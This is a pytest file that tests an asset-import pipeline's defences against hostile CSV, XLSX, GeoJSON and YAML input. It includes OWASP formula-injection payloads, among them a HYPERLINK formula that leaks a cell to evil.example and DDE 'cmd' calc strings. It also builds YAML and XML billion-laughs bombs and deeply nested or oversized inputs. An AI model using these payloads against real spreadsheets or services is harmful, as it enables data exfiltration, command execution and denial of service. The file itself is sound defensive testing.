"""Hostile exports and reports (issue 11, items 10, 11 and 12): formula injection in the report, a
50 MB cell and a 10^6-vertex geometry reported on their row while the valid rows are imported,
YAML mapping bombs; through the pipeline, the API and the CLI. XLSX bombs: test_hostile_xlsx.py."""

from __future__ import annotations

import csv
import io
import json
import time

import pytest
from conftest import dump, run_cli
from hostile import (
    CP1252,
    GEOJSON_MAPPING,
    IMBOR,
    XLSX_TYPE,
    csv_text,
    feature,
    geojson,
    registry_with,
    row,
    shared_strings_book,
    workbook,
)

from importers.mapping import MappingError, load_mapping, parse_mapping
from importers.pipeline import ImportFailed, import_file
from importers.report import neutralise

# OWASP "CSV Injection" payloads, and what a report cell of each must look like.
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1", "＝1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def violations(result) -> dict[str, int]:
    return {k.removeprefix("Violation: "): n for k, n in result.problem_counts.items() if k.startswith("Violation")}


def report_cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_neutralised(text: str) -> None:
    """Every cell of a raw report is quoted, and none starts a formula unless it is a number."""
    lines = [line for line in text.splitlines() if line]
    assert all(line.startswith('"') and line.endswith('"') for line in lines), lines[:3]
    for cells in report_cells(text):
        for value in cells.values():
            assert not value.startswith(FORMULA_START) or neutralise(value) == value, value


def test_formula_payloads_are_neutralised_in_the_report_file(registry, tmp_path):
    rows = [row(f"P-{i}", material=payload) for i, payload in enumerate(PAYLOADS)]
    rows += [row(payload) for payload in PAYLOADS if payload[0] not in "\t\r"]  # as a source ID too
    path = tmp_path / "payloads.csv"
    path.write_text(csv_text(rows), encoding="utf-8")
    report = tmp_path / "report.csv"
    import_file(registry, path, "GM0153", IMBOR, report_path=report, dry_run=True)
    text = report.read_text(encoding="utf-8")
    assert_neutralised(text)
    values = {cells["value"] for cells in report_cells(text)}
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")" in values
    assert "'+cmd|' /C calc'!A0" in values and "'@SUM(1+9)*cmd|' /C calc'!A0" in values


def test_numbers_stay_numbers_and_formulas_do_not():
    """The decision (docs/importing.md#the-report): a cell that is exactly a number is kept."""
    for number in ("-3.5", "-3,5", "+12", "-1e3", "+0,25"):
        assert neutralise(number) == number
    for formula in PAYLOADS + ["-3.5+A1", "-", "+", "@", "-A1", "=-3.5"]:
        assert neutralise(formula) == "'" + formula


def test_a_fifty_megabyte_csv_cell_is_reported_and_the_valid_rows_imported(registry, tmp_path):
    path = tmp_path / "big-cell.csv"
    path.write_text(csv_text([row("A-1"), row("B-1", note="x" * 50 * 2**20), row("C-1")]), encoding="utf-8")
    result = import_file(registry, path, "GM0153", IMBOR)
    assert result.created == 2 and result.rows_rejected == 1
    [issue] = [i for i in result.issues if i.problem == "cell too large"]
    assert issue.row == "3" and "PASSPORTS_IMPORT_MAX_CELL" in issue.message_en and len(issue.value) < 200


def test_a_cell_over_the_limit_but_under_the_line_cap(settings, tmp_path):
    path = tmp_path / "cell.csv"
    path.write_text(csv_text([row("A-1", note="y" * 5000), row("B-1")]), encoding="utf-8")
    with registry_with(settings, cell=1000) as reg:
        result = import_file(reg, path, "GM0153", IMBOR)
    assert result.created == 1
    [issue] = [i for i in result.issues if i.problem == "cell too large"]
    assert issue.column == "Omschrijving" and "5000 characters" in issue.message_en


def test_a_quoted_value_over_many_lines(settings, tmp_path):
    lines = "\n".join(["z" * 100] * 500)
    path = tmp_path / "quoted.csv"
    path.write_text(csv_text([row("A-1"), row("B-1", note=f'"{lines}"'), row("C-1")]), encoding="utf-8")
    with registry_with(settings, cell=1000) as reg:  # line cap: 1 MiB, the quoted value 50 kB: read
        result = import_file(reg, path, "GM0153", IMBOR)
    assert result.created == 2 and violations(result) == {"cell too large": 1}


def test_a_fifty_megabyte_xlsx_cell(registry, tmp_path):
    """A shared string of 50 MB (as Excel would write it) is reported on the rows that use it."""
    book = shared_strings_book(tmp_path / "big.xlsx", [row("A-1"), row("B-1", note="x" * 50 * 2**20),
                                                       row("C-1")])
    result = import_file(registry, book, "GM0153", IMBOR)
    assert result.created == 2 and violations(result) == {"cell too large": 1}


def test_too_many_rows(settings, tmp_path):
    path = tmp_path / "rows.csv"
    path.write_text(csv_text(row(f"R-{i}") for i in range(100)), encoding="utf-8")
    with registry_with(settings, rows=50) as reg:
        before = dump(reg)
        with pytest.raises(ImportFailed, match="PASSPORTS_IMPORT_MAX_ROWS") as caught:
            import_file(reg, path, "GM0153", IMBOR)
        assert caught.value.status == 413 and dump(reg) == before


# -- GeoJSON ----------------------------------------------------------------------------------------

@pytest.fixture
def geo_mapping(tmp_path):
    path = tmp_path / "geo.yaml"
    path.write_text(GEOJSON_MAPPING, encoding="utf-8")
    return path


def big_features(registry, tmp_path, geo_mapping, vertices: int, characters: int):
    line = {"type": "LineString", "coordinates": [[257000 + i * 0.001, 471000.5] for i in range(vertices)]}
    path = geojson(tmp_path / "big.geojson", [feature("A-1"), feature("B-1", line), feature("C-1"),
                                              feature("D-1", Opmerking="x" * characters), feature("E-1")])
    before = time.perf_counter()
    result = import_file(registry, path, "GM0153", geo_mapping)
    assert time.perf_counter() - before < 60
    assert result.created == 3, result.issues[:3]
    problems = {i.row: (i.problem, i.column) for i in result.issues if i.severity == "Violation"}
    assert problems == {"2": ("too many vertices", "geometry"), "4": ("cell too large", "Opmerking")}


@pytest.mark.slow
def test_a_million_vertices_and_a_fifty_megabyte_property(registry, tmp_path, geo_mapping):
    """Both used to fail the whole batch (MemoryError: Reached the buffer maximal size)."""
    big_features(registry, tmp_path, geo_mapping, 10**6, 50 * 2**20)


def test_too_many_vertices_and_a_long_property(settings, tmp_path, geo_mapping):
    with registry_with(settings, vertices=1000, cell=1000) as reg:
        big_features(reg, tmp_path, geo_mapping, 1001, 1001)


def test_geojson_nested_a_hundred_thousand_levels(registry, tmp_path, geo_mapping):
    path = tmp_path / "deep.geojson"
    deep = "[" * 100_000 + "]" * 100_000
    path.write_text('{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"ID": '
                    f'"A-1", "x": {deep}}}, "geometry": null}}]}}', encoding="utf-8")
    before = dump(registry)
    with pytest.raises(ImportFailed, match="PASSPORTS_IMPORT_MAX_DEPTH") as caught:
        import_file(registry, path, "GM0153", geo_mapping)
    assert caught.value.status == 413 and dump(registry) == before


# -- mapping files ----------------------------------------------------------------------------------

BILLION_LAUGHS_YAML = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))


def test_yaml_alias_bomb_is_refused_quickly():
    started = time.perf_counter()
    with pytest.raises(MappingError, match="PASSPORTS_MAPPING_MAX_NODES") as caught:
        parse_mapping(BILLION_LAUGHS_YAML + "name: x\n", "bomb.yaml")
    assert time.perf_counter() - started < 2 and caught.value.status == 413


@pytest.mark.parametrize("text, limit", [
    ("[" * 10_000 + "]" * 10_000, "PASSPORTS_MAPPING_MAX_DEPTH"),
    ("name: x\n" + "# padding\n" * 40_000, "PASSPORTS_MAPPING_MAX_BYTES"),
], ids=["deep", "huge"])
def test_deep_or_huge_mapping(text, limit, tmp_path):
    path = tmp_path / "m.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(MappingError, match=limit):
        load_mapping(path)


def test_recursive_alias():
    with pytest.raises(MappingError, match="recursive"):
        parse_mapping("a: &a [1, *a]\nname: x\n")


def test_shipped_mappings_are_within_the_limits():
    from importers.mapping import available

    assert [load_mapping(name).name for name in available()]


def test_cli_mapping_bomb_exits_2(tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(BILLION_LAUGHS_YAML, encoding="utf-8")
    done = run_cli("import", str(CP1252), "-m", "GM0153", "--mapping", str(path), "--data", str(tmp_path / "d"))
    assert done.returncode == 2 and "PASSPORTS_MAPPING_MAX_NODES" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr


# -- the API ----------------------------------------------------------------------------------------

@pytest.fixture
def client(app_client, settings):
    from registry.store.tokens import TokenStore

    _, token = TokenStore(settings.tokens_path).create("GM0153", "hostile import test")
    app_client.headers["Authorization"] = f"Bearer {token}"
    return app_client


def still_answers(client) -> None:
    done = client.post("/api/v1/imports", params={"mapping": IMBOR, "dry_run": "true"},
                       content=CP1252.read_bytes(), headers={"Content-Type": "text/csv"})
    assert done.status_code == 200 and done.json()["rows_read"] > 0


def test_api_report_is_neutralised(client, tmp_path):
    rows = [row(f"P-{i}", material=payload) for i, payload in enumerate(PAYLOADS)]
    done = client.post("/api/v1/imports", params={"mapping": IMBOR, "dry_run": "true"},
                       content=csv_text(rows).encode(), headers={"Content-Type": "text/csv", "Accept": "text/csv"})
    assert done.status_code == 200 and done.headers["content-type"].startswith("text/csv")
    assert_neutralised(done.text)
    assert sum(1 for cells in report_cells(done.text) if cells["value"].startswith("'")) >= len(PAYLOADS) - 1


def test_api_bombs_answer_413_or_422_naming_the_limit(client, tmp_path):
    from hostile import billion_laughs, rewrite

    registry = client.app.state.registry
    before = dump(registry)
    book = workbook(tmp_path / "b.xlsx", [row("A-1")])
    lol = rewrite(book, tmp_path / "lol.xlsx", {"xl/sharedStrings.xml": billion_laughs("sst")})
    sst = rewrite(book, tmp_path / "sst.xlsx", {"xl/sharedStrings.xml": b'<sst xmlns="x">'
                                                + b"<si><t>x</t></si>" * 1_100_000 + b"</sst>"})
    for path, status, limit in ((lol, 422, None), (sst, 413, "PASSPORTS_IMPORT_MAX_SHARED_STRINGS")):
        done = client.post("/api/v1/imports", params={"mapping": IMBOR}, content=path.read_bytes(),
                           headers={"Content-Type": XLSX_TYPE})
        assert done.status_code == status, done.text
        body = done.json()
        assert "Traceback" not in body["detail"] and "passports-import-" not in body["detail"]  # no server path
        if limit:
            assert limit in body["detail"] and body["limit"] == limit and body["limit_value"] == 1_000_000
        else:
            assert "DOCTYPE" in body["detail"]
        still_answers(client)
    assert dump(registry) == before


def test_api_big_cell_keeps_the_valid_rows(client):
    body = csv_text([row("A-1"), row("B-1", note="x" * 5 * 2**20), row("C-1")]).encode()
    done = client.post("/api/v1/imports", params={"mapping": IMBOR}, content=body,
                       headers={"Content-Type": "text/csv"})
    assert done.status_code == 200 and done.json()["created"] == 2
    assert {k: n for k, n in done.json()["problem_counts"].items() if k.startswith("Violation")} == \
        {"Violation: cell too large": 1}
    still_answers(client)


def test_geojson_limit_in_the_json_answer(client, tmp_path):
    value: object = 1
    for _ in range(70):
        value = [value]
    body = json.dumps({"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"x": value}}]})
    done = client.post("/api/v1/imports", params={"mapping": "leeuwarden-bomen-geojson"}, content=body.encode(),
                       headers={"Content-Type": "application/geo+json"})
    assert done.status_code == 413 and done.json()["limit"] == "PASSPORTS_IMPORT_MAX_DEPTH"
    still_answers(client)
